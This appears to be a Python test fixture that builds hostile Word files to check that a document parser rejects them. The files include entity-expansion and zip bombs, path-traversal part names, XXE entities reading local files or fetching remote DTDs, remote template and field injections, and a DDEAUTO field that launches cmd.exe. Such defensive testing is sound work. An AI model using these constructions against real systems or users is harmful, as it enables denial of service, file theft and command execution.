"""Word files that mean harm, each with what must come of it."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.papers.template.wordfile import W, archive, docx, para

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TEXT = "Ф.И.О. аттестуемого: ____________"
SECRET = "тайна-из-чужого-файла"


def parts_of(content: bytes) -> dict[str, bytes]:
    """The parts of the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        return {name: source.read(name) for name in source.namelist()}


def plain() -> bytes:
    """A sound small form."""
    return docx(para(TEXT), para("Возраст: ____"))


def with_document(change: Callable[[bytes], bytes]) -> bytes:
    """The small form with its main part changed."""
    parts = parts_of(plain())
    return archive(parts | {"word/document.xml": change(parts["word/document.xml"])})


def with_doctype(doctype: str, use: str = "&e;") -> bytes:
    """The small form with definitions before its text, and a use of them in it."""
    return with_document(lambda xml: doctype.encode() + xml.replace("аттестуемого".encode(), use.encode() or b"x"))


def laughs() -> bytes:
    """A thousand million laughs."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return with_doctype(f'<!DOCTYPE d [<!ENTITY e0 "ха">{levels}]>', "&e9;")


def quadratic() -> bytes:
    """One long word said very often."""
    return with_doctype(f'<!DOCTYPE d [<!ENTITY e "{"х" * 50_000}">]>', "&e;" * 20_000)


def bomb() -> bytes:
    """Forty kilobytes that unpack into forty megabytes."""
    return archive(parts_of(plain()) | {"word/media/a.bin": bytes(40_000_000)})


def bomb_in_text() -> bytes:
    """The text itself unpacks into thirty megabytes of nothing."""
    return with_document(lambda xml: xml.replace(b"<w:sectPr/>", b"<w:sectPr/>" + b" " * 30_000_000))


def nested() -> bytes:
    """A Word file in a Word file, ten deep: nobody looks into what is inside."""
    content = plain()
    for _ in range(10):
        content = archive(parts_of(plain()) | {"word/embeddings/inner.docx": content})
    return content


def lying_size() -> bytes:
    """Says that its text is a hundred bytes long when it is three megabytes."""
    content = bytearray(with_document(lambda xml: xml.replace(b"<w:sectPr/>", b"<w:sectPr/>" + b" " * 3_000_000)))
    at = content.rfind(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", content, at + 28)[0]
        if content[at + 46 : at + 46 + length] == b"word/document.xml":
            struct.pack_into("<I", content, at + 24, 100)
        at = content.rfind(b"PK\x01\x02", 0, at)
    return bytes(content)


def overlapping() -> bytes:
    """Thousands of parts that all unpack the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in parts_of(plain()).items():
            target.writestr(name, data)
    content = out.getvalue()
    directory = content.find(b"PK\x01\x02")
    packed, checksum = zlib.compress(bytes(2_000_000), 9)[2:-4], zlib.crc32(bytes(2_000_000))
    pattern = b"word/media/x%04d.bin"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, checksum, len(packed), 2_000_000, 20, 0)
    kernel = local + pattern % 0 + packed
    listed, offset = b"", directory
    for number in range(1_900):
        listed += struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02", 20, 20, 0, 8, 0, 33, checksum, len(packed), 2_000_000,
            20, 0, 0, 0, 0, 0, offset,
        ) + pattern % number  # fmt: skip
    end = content.rfind(b"PK\x05\x06")
    old = content[directory:end]
    count = struct.unpack_from("<H", content, end + 10)[0] + 1_900
    tail = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(old) + len(listed), directory + len(kernel), 0
    )
    return content[:directory] + kernel + old + listed + tail


def many_paragraphs(count: int = 60_000) -> bytes:
    """Short paragraphs, no two alike."""
    body = "".join(f"<w:p><w:r><w:t>{n * 7919 % 1_000_003}</w:t></w:r></w:p>" for n in range(count))
    return with_document(lambda xml: xml.replace(b"<w:sectPr/>", body.encode() + b"<w:sectPr/>"))


def many_runs(count: int = 60_000) -> bytes:
    """One paragraph of very many words, each set apart."""
    body = "".join(f"<w:r><w:t>{n * 7919 % 1_000_003}</w:t></w:r>" for n in range(count))
    return with_document(lambda xml: xml.replace(b"<w:sectPr/>", f"<w:p>{body}</w:p>".encode() + b"<w:sectPr/>"))


def deep() -> bytes:
    """Tables within tables without end."""
    depth = 3_000
    inner = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
    return with_document(lambda xml: xml.replace(b"<w:sectPr/>", inner.encode() + b"<w:sectPr/>"))


def deepish() -> bytes:
    """Tables within tables, eighty deep: a parser takes it, whoever calls itself may not."""
    depth = 80
    inner = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
    return with_document(lambda xml: xml.replace(b"<w:sectPr/>", inner.encode() + b"<w:sectPr/>"))


def climbing() -> bytes:
    """Parts whose names lead out of any folder."""
    names = (
        "../../../../canary.txt",
        "/etc/canary.txt",
        "C:\\canary.txt",
        "word/..\\..\\canary.txt",
        "word/\x01.xml",
    )
    return archive(parts_of(plain()) | dict.fromkeys(names, b"x"))


def twins() -> bytes:
    """The text twice under one name."""
    out = io.BytesIO(plain())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as target:
            target.writestr("word/document.xml", b"<other/>")
    return out.getvalue()


def twins_by_case() -> bytes:
    """The text twice under names that differ in capitals only."""
    return archive(parts_of(plain()) | {"word/Document.xml": b"<other/>"})


def of_type(kind: str) -> bytes:
    """The small form that says it is something else."""
    return docx(para(TEXT), main_type=kind)


def related(kind: str, target: str, body: str = "", mode: str = "External", **parts: bytes) -> bytes:
    """The small form with one more relationship, and a text that uses it."""
    said = f' TargetMode="{mode}"' if mode else ""
    rels = (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="x1" Type="{kind}" Target="{target}"{said}/>'
        "</Relationships>"
    ).encode()
    return docx(para(TEXT), body, parts={"word/_rels/document.xml.rels": rels, **parts})


def blip(attribute: str = "r:link") -> str:
    """A picture in the text by the relationship x1."""
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" '
        f'name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{_R}" {attribute}="x1"/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def field(code: str) -> str:
    """A field of Word that fetches something when it is brought up to date."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> '
        f"{code} </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def vml(attributes: str) -> str:
    """An old drawing that names its picture."""
    return (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:50pt;height:50pt">'
        f'<v:imagedata xmlns:r="{_R}" {attributes}/></v:shape></w:pict></w:r></w:p>'
    )


def reaching_out(address: str, folder: str) -> Mapping[str, bytes]:
    """Files that ask for `address` (http://…/) and for files under `folder` in every way that Word knows."""
    image, link = f"{_R}/image", f"{_R}/hyperlink"
    chunk = f"{_R}/aFChunk"
    html = f'<html><body><img src="{address}chunk.png"><p>ж</p></body></html>'.encode()
    types = parts_of(plain())["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="html" ContentType="text/html"/></Types>'
    )
    settings = f"{_R}/settings"
    return {
        "linked picture": related(image, f"{address}linked.png", blip()),
        "embedded from outside": related(image, f"{address}embedded.png", blip("r:embed")),
        "picture called a hyperlink": related(link, f"{address}hyper.png", blip()),
        "embedded called a hyperlink": related(link, f"{address}hyper2.png", blip("r:embed")),
        "small letters": related(image, f"{address}small.png", blip(), mode="external"),
        "inside says": related(image, f"{address}inside.png", blip("r:embed"), mode="Internal"),
        "no mode": related(image, f"{address}nomode.png", blip(), mode=""),
        "file": related(image, f"file://{folder}/canary.png", blip()),
        "file by hyperlink": related(link, f"file://{folder}/canary.png", blip()),
        "up and away": related(image, f"../../../../../../../..{folder}/canary.png", blip("r:embed"), mode=""),
        "old drawing": related(link, f"{address}vml.png", vml('r:id="x1"')),
        "old drawing by name": docx(para(TEXT), vml(f'src="{address}vmlsrc.png" o:href="{address}vmlhref.png"')),
        "INCLUDEPICTURE": docx(para(TEXT), field(f'INCLUDEPICTURE "{address}field.png" \\d')),
        "INCLUDETEXT": docx(para(TEXT), field(f'INCLUDETEXT "{address}field.docx"')),
        "INCLUDETEXT of a file": docx(para(TEXT), field(f'INCLUDETEXT "{folder}/canary.txt"')),
        "IMPORT": docx(para(TEXT), field(f'IMPORT "{address}import.png"')),
        "LINK": docx(para(TEXT), field(f'LINK Word.Document.12 "{address}link.docx" "" \\a \\r')),
        "DDE": docx(para(TEXT), field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        "simple field": docx(
            para(TEXT), f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;{address}simple.png&quot;"/></w:p>'
        ),
        "template": docx(
            para(TEXT),
            parts={
                "word/_rels/document.xml.rels": (
                    f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="s" Type="{settings}" '
                    'Target="settings.xml"/></Relationships>'
                ).encode(),
                "word/settings.xml": (
                    f'<w:settings xmlns:w="{W}" xmlns:r="{_R}"><w:attachedTemplate r:id="t"/></w:settings>'
                ).encode(),
                "word/_rels/settings.xml.rels": (
                    f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="t" Type="{_R}/attachedTemplate" '
                    f'Target="{address}template.dotm" TargetMode="External"/></Relationships>'
                ).encode(),
            },
        ),
        "page of the web inside": archive(
            parts_of(related(chunk, "chunk.html", f'<w:altChunk xmlns:r="{_R}" r:id="x1"/>', mode=""))
            | {"word/chunk.html": html, "[Content_Types].xml": types}
        ),
        "page of the web outside": related(
            chunk, f"{address}chunk.html", f'<w:altChunk xmlns:r="{_R}" r:id="x1"/>'
        ),
        "object": related(
            f"{_R}/oleObject",
            f"{address}object.bin",
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
            f'ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" xmlns:r="{_R}" r:id="x1" '
            'UpdateMode="Always"/></w:object></w:r></w:p>',
        ),
        "XML from a file": with_doctype(f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{folder}/canary.txt">]>'),
        "XML from the net": with_doctype(f'<!DOCTYPE d [<!ENTITY e SYSTEM "{address}entity.txt">]>'),
        "definitions from the net": with_doctype(f'<!DOCTYPE d SYSTEM "{address}d.dtd">'),
        "parameter entity": with_doctype(f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{address}p.dtd"> %p;]>'),
        "style sheet": with_document(
            lambda xml: f'<?xml-stylesheet type="text/xsl" href="{address}s.xsl"?>'.encode() + xml
        ),
        "inclusion": with_document(
            lambda xml: xml.replace(
                b"<w:sectPr/>",
                f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}i.xml"/>'.encode()
                + b"<w:sectPr/>",
            )
        ),
    }


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
HARMFUL: dict[str, tuple[Callable[[], bytes], bool]] = {
    "laughs": (laughs, True),
    "quadratic": (quadratic, True),
    "bomb": (bomb, False),
    "bomb in the text": (bomb_in_text, False),
    "nested": (nested, False),
    "lying size": (lying_size, True),
    "overlapping parts": (overlapping, True),
    "many paragraphs": (many_paragraphs, True),
    "deep": (deep, True),
    "eighty deep": (deepish, False),
    "climbing names": (climbing, False),
    "twins": (twins, True),
    "twins but for capitals": (twins_by_case, False),
    "macros": (lambda: of_type(MACROS), False),
    "a picture by type": (lambda: of_type("image/png"), False),
    "a sheet by type": (
        lambda: of_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        False,
    ),
    "macros renamed": (lambda: docx(para(TEXT), parts={"word/vbaProject.bin": b"x"}), False),
}
"""How each is made, and whether every door must refuse it."""
